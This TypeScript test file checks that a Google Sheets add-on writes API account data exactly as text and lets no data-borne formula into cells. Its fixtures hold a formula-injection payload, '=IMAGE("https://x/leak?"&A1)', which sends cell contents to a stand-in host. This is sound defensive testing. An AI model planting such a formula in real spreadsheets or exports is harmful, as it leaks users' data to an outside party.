/**
 * Text from the API stays text (issue 22, items 1 and 2): accounts whose fields are formulas,
 * digits with leading zeros, phone numbers, percentages, booleans, dates, `@`/`'` prefixes and
 * 17-19-digit ids, added to the sandbox (POST /_sandbox/accounts), looked up by every writer of the
 * *built* add-on (bulk beside and to a new sheet, a history run, a tracker, a vet's scorecard, the growth view, the
 * usage export) in the stand-in, which parses what scripts write as Sheets does. Each cell must
 * read back exactly as the API sent it, numbers stay numbers, and no cell holds a formula that came
 * from data (the only formulas are the tracker's own SPARKLINE trends and the scorecard's verdicts and links).
 */
import type { GasRuntime } from '../../scripts/gas-standin/runtime';
import { sandboxedAddon } from './harness';

const HOUR = 3600000;
const env = sandboxedAddon();

/** What the API sends for each account (every field written as text is a trap for Sheets' parser). */
const ACCOUNTS = [
  {
    username: 'hostile_a',
    id: '17841405793187218',
    followers: 1000,
    full_name: '=IMAGE("https://x/leak?"&A1)',
    biography: '+15551234567',
    category: '12%',
    external_url: '@x',
    public_phone_number: "'x",
    public_email: '-1',
  },
  {
    username: 'hostile_b',
    id: '1784140579318721899',
    followers: 2000,
    full_name: '0012345',
    biography: 'TRUE',
    category: '2026-01-05',
    external_url: '=1+1',
    public_phone_number: '+15551234567',
    public_email: '1,234',
  },
  {
    // Differs from hostile_a's id only past a double's 15-16 digits: as numbers the two would be one.
    username: 'hostile_c',
    id: '17841405793187219',
    followers: 3000,
    full_name: "'x",
    biography: '@x',
    category: 'FALSE',
    external_url: '1/5/2026',
    public_phone_number: '0012345',
    public_email: '10:30',
  },
  // A username of digits with a leading zero: the target itself is a trap in history and growth sheets.
  {
    username: '0012345',
    id: '178414057931872180',
    followers: 4000,
    full_name: '2026-01-05',
    biography: '12%',
    category: '',
    external_url: '',
    public_phone_number: '',
    public_email: '',
  },
];
const TEXT_FIELDS = [
  'id',
  'username',
  'full_name',
  'biography',
  'category',
  'external_url',
  'public_phone_number',
  'public_email',
] as const;
const FIELDS = [...TEXT_FIELDS, 'followers'];
const handles = ACCOUNTS.map((a) => a.username);
/** The cells of one account's row, as the API sent them. */
const expected = (a: (typeof ACCOUNTS)[number]) => [...TEXT_FIELDS.map((f) => a[f]), a.followers];

beforeEach(async () => {
  // The sandbox keeps added accounts until it stops: add them once per file.
  if (!added) for (const a of ACCOUNTS) await env.sandbox.addAccount(a);
  added = true;
});
let added = false;

/** Sheet1: a header in A1, the handles from A2 (stored as typed, quoted where Sheets would parse them), selected. */
function sheetWith(): GasRuntime {
  const rt = env.runtime();
  rt.spreadsheet.sheet('Sheet1').setValues('A1', [['handle'], ...handles.map((h) => [h])]);
  rt.spreadsheet.select(`Sheet1!A2:A${handles.length + 1}`);
  rt.call('igSidebarState');
  return rt;
}

function bulk(rt: GasRuntime, output: 'beside' | 'sheet' | 'history') {
  let job = rt.call('igBulkStart', { endpoint: 'profile', fields: FIELDS.join(','), output });
  while (job.status === 'running') job = rt.call('igBulkStep', job.id);
  // Paid once per account: later runs reuse the answers.
  expect(job).toMatchObject({ status: 'done', written: ACCOUNTS.length });
  return job;
}

/** Every formula in the spreadsheet that did not come from the add-on's own setFormulas (the trends). */
const dataFormulas = (rt: GasRuntime) =>
  rt.spreadsheet.sheets.flatMap((s) =>
    [...s.formulas].filter(([, f]) => !/^=IFERROR\(SPARKLINE\(/.test(f)).map(([at, f]) => `${s.name}!${at}: ${f}`),
  );

test('a bulk run beside the column and one to a new sheet write every field exactly as the API sent it', () => {
  const rt = sheetWith();
  bulk(rt, 'beside');
  const sheet = rt.spreadsheet.sheet('Sheet1');
  expect(sheet.getValues(`B1:${'ABCDEFGHIJ'[FIELDS.length]}${ACCOUNTS.length + 1}`)).toEqual([
    FIELDS,
    ...ACCOUNTS.map(expected),
  ]);

  rt.spreadsheet.select(`Sheet1!A2:A${handles.length + 1}`);
  const job = bulk(rt, 'sheet');
  const out = rt.spreadsheet.sheet(job.outSheet ?? 'IG Data IGPROFILE');
  expect(out.getValues()).toEqual([['handle', ...FIELDS], ...ACCOUNTS.map((a) => [a.username, ...expected(a)])]);
  expect(dataFormulas(rt)).toEqual([]);
});

test('a history run appends exact rows, runs again into the same sheet (its header read back), and the growth view names every account as it is', () => {
  const rt = sheetWith();
  bulk(rt, 'history');
  rt.advance(HOUR);
  rt.spreadsheet.select(`Sheet1!A2:A${handles.length + 1}`);
  bulk(rt, 'history');
  const names = rt.spreadsheet.sheets.map((s) => s.name).filter((n) => n.startsWith('IG Data history'));
  expect(names).toEqual(['IG Data history IGPROFILE']);
  const rows = rt.spreadsheet.sheet(names[0]).getValues();
  expect(rows[0]).toEqual(['date', 'handle', ...FIELDS]);
  expect(rows.slice(1).map((r) => r.slice(1))).toEqual(
    [...ACCOUNTS, ...ACCOUNTS].map((a) => [a.username, ...expected(a)]),
  );
  expect(rows.slice(1).every((r) => r[0] instanceof Date)).toBe(true);

  const g = rt.call('igGrowthView', { sheet: names[0], field: 'followers' });
  expect(g).toMatchObject({ accounts: ACCOUNTS.length, snapshots: 2 * ACCOUNTS.length });
  const growth = rt.spreadsheet.sheet('IG Data growth').getValues();
  // The summary, biggest first: each account under its own name, its latest and previous numbers.
  expect(growth.slice(1, 1 + ACCOUNTS.length).map((r) => [r[0], r[2], r[4]])).toEqual(
    [...ACCOUNTS].reverse().map((a) => [a.username, a.followers, a.followers]),
  );
  expect(dataFormulas(rt)).toEqual([]);
});

test("a tracker keeps each account's id as every digit it has: two ids one double apart stay two accounts", () => {
  const rt = sheetWith();
  const { tracker } = rt.call('igTrackerCreate', {
    fields: 'followers',
    every: 'weekly',
    weekday: 1,
    hour: 7,
    cap: 100,
    name: 'Hostile',
  });
  let r = rt.call('igTrackerStep', tracker.id);
  while (!r.done) r = rt.call('igTrackerStep', tracker.id);
  const history = rt.spreadsheet.sheets.find(
    (s) => s.name.startsWith('IG Data history') && s.name.includes('Hostile'),
  )!;
  const rows = history.getValues();
  const idCol = rows[0].indexOf('id');
  expect(idCol).toBeGreaterThan(1);
  expect(rows.slice(1).map((row) => [row[1], row[idCol]])).toEqual(ACCOUNTS.map((a) => [a.username, a.id]));
  const view = rt.spreadsheet.sheet(tracker.view).getValues();
  const lines = view.slice(1).filter((l) => l[0] !== '');
  expect(lines.map((l) => [l[0], l[2]]).sort()).toEqual(ACCOUNTS.map((a) => [a.username, a.followers]).sort());
  expect(dataFormulas(rt)).toEqual([]);
});

test('the usage export writes the labels as text and the credits as numbers', () => {
  const rt = sheetWith();
  const rows = [
    ['Day', 'What', 'Credits'],
    ['2026-11-25', '=IMAGE("https://x/leak?"&A1)', 3],
    ['2026-11-25', '0012345', 2],
    ['2026-11-26', 'TRUE', 1],
  ];
  rt.call('igExportUsage', rows);
  expect(rt.spreadsheet.sheet('IG Data usage').getValues()).toEqual(
    rows.map((r, i) => (i ? [new Date(`${r[0]}T00:00:00Z`), r[1], r[2]] : r)),
  );
  expect(dataFormulas(rt)).toEqual([]);
});

test("a vet's scorecard writes the accounts as typed and the checks' text as text; its only formulas are its own verdicts and links", () => {
  const rt = sheetWith();
  let job = rt.call('igVetStart', { checks: ['engagement', 'niche'], cap: 100 }).job;
  while (job.status === 'running') job = rt.call('igBulkStep', job.id);
  expect(job.status).toBe('done');
  const card = rt.spreadsheet.sheet('IG Data vet');
  const header = card.getValues()[7];
  const lines = card.getValues().slice(8, 8 + ACCOUNTS.length);
  // '0012345' stays the account it is (not the number 12345), and its checks found it.
  expect(lines.map((l) => l[0])).toEqual(handles);
  lines.forEach((l) => {
    expect(l[header.indexOf('note')]).toBe('');
    expect(typeof l[header.indexOf('niche')]).toBe('string');
  });
  const own = /^=(IF\(\$A\d+="",""|HYPERLINK\("https:\/\/www\.instagram\.com\/"&\$A\d+&"\/","profile"\)$)/;
  expect(dataFormulas(rt).filter((f) => !own.test(f.replace(/^[^:]+: /, '')))).toEqual([]);
});
